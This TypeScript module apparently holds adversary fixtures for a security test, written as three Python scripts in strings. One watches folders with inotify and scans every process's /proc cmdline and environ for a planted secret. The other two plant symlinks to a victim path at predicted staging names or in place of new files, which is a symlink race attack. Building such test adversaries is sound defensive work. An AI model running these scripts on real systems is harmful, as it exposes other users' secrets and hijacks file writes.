/** Python: waits for files in folders, reads each as soon as it is there, and looks at all processes meanwhile. */
export const spy = `import ctypes, os, struct, sys, threading, time
secret, folders = open('/usr/local/bin/attacker.secret', 'rb').read().strip(), sys.argv[1:]
seen = set()
def tell(text):
    if text not in seen:
        seen.add(text)
        print(text, flush=True)
def read(path):
    try:
        with open(path, 'rb') as file:
            mode = os.fstat(file.fileno()).st_mode & 0o7777
            # An open descriptor goes on reading after a mode was changed.
            for _ in range(3):
                file.seek(0)
                if secret in file.read(1 << 20):
                    tell('%s %o' % (path, mode))
                    return
                time.sleep(0.002)
    except OSError:
        pass
def processes():
    while True:
        for pid in os.listdir('/proc'):
            if not pid.isdigit() or int(pid) == os.getpid():
                continue
            for what in ('cmdline', 'environ'):
                try:
                    with open('/proc/%s/%s' % (pid, what), 'rb') as file:
                        if secret in file.read():
                            tell('%s of a process' % what)
                except OSError:
                    pass
        time.sleep(0.005)
threading.Thread(target=processes, daemon=True).start()
libc = ctypes.CDLL('libc.so.6', use_errno=True)
inotify = libc.inotify_init()
watched = {}
def watch(folder):
    number = libc.inotify_add_watch(inotify, folder.encode(), 0x00000100 | 0x00000002 | 0x00000080 | 0x00000008 | 0x00000004)
    if number >= 0:
        watched[number] = folder
        print('watching', folder, file=sys.stderr, flush=True)
        try:
            for name in os.listdir(folder):
                read(os.path.join(folder, name))
        except OSError:
            pass
for folder in folders:
    watch(folder)
while True:
    data, at = os.read(inotify, 65536), 0
    while at < len(data):
        number, mask, _, length = struct.unpack_from('iIII', data, at)
        name = data[at + 16:at + 16 + length].rstrip(b'\\0').decode(errors='replace')
        at += 16 + length
        path = os.path.join(watched.get(number, ''), name)
        if mask & 0x40000000:
            watch(path)
        else:
            read(path)
`;

/** Python: puts links to a victim at every name that a file may be staged under, before it is and as soon as it is. */
export const planter = `import os, sys, time
folder, name, victim = sys.argv[1:4]
os.chdir(folder)
def plant(at):
    try:
        os.symlink(victim, at)
    except OSError:
        pass
known = set(os.listdir('.'))
while True:
    try:
        last = int(open('/proc/loadavg').read().split()[-1])
    except (OSError, ValueError):
        last = 0
    for pid in range(last, last + 40):
        plant('.%s.%d.staged' % (name, pid))
    for one in os.listdir('.'):
        if one in known or os.path.islink(one):
            continue
        if 'staged' in one or one.startswith('.') or one.startswith('tmp'):
            try:
                os.unlink(one)
            except OSError:
                continue
            plant(one)
`;

/** Python: in every directory that its user may write to, below some, puts links to a victim in the place of files. */
export const replacer = `import os, random, sys, time
victim, tops = sys.argv[1], sys.argv[2:]
chance = random.Random(1)
known = {}
def writable():
    for top in tops:
        for folder, _, _ in os.walk(top):
            if os.access(folder, os.W_OK | os.X_OK):
                yield folder
def link(at):
    try:
        os.rename(at, os.path.join(os.path.dirname(at), 'taken'))
        os.symlink(victim, at)
        print('replaced', at, flush=True)
    except OSError:
        pass
folders, refreshed = [], 0
while True:
    if time.monotonic() - refreshed > 0.2:
        folders, refreshed = list(writable()), time.monotonic()
        for folder in folders:
            known.setdefault(folder, set())
    for folder in folders:
        try:
            names = set(os.listdir(folder))
        except OSError:
            continue
        for name in names - known[folder]:
            at = os.path.join(folder, name)
            if os.path.islink(at) or os.path.isdir(at) or name == 'taken':
                continue
            # What is staged always; the others sometimes, or nothing would ever come into effect.
            if name.endswith('.staged') or chance.random() < 0.3:
                link(at)
        known[folder] = names
`;
